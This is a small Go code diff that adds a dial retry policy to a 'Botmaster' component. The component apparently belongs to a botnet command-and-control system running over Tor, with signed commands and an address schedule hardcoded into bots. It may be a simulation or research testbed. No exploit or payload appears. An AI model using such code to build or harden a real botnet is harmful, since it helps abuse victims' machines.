@@ -127,6 +127,11 @@ func NewBotmaster(net *tor.Network, seed []byte) (*Botmaster, error) {
 	return m, nil
 }
 
+// SetRetryPolicy installs a dial retry policy on the master's proxy,
+// so Reach survives transient infrastructure faults the same way bot
+// dials do. BotNet wires the BotConfig policy through here.
+func (m *Botmaster) SetRetryPolicy(rp tor.RetryPolicy) { m.proxy.Retry = rp }
+
 // SignPub is the public key hardcoded into bots for command
 // verification and the address schedule.
 func (m *Botmaster) SignPub() ed25519.PublicKey { return m.signPub }
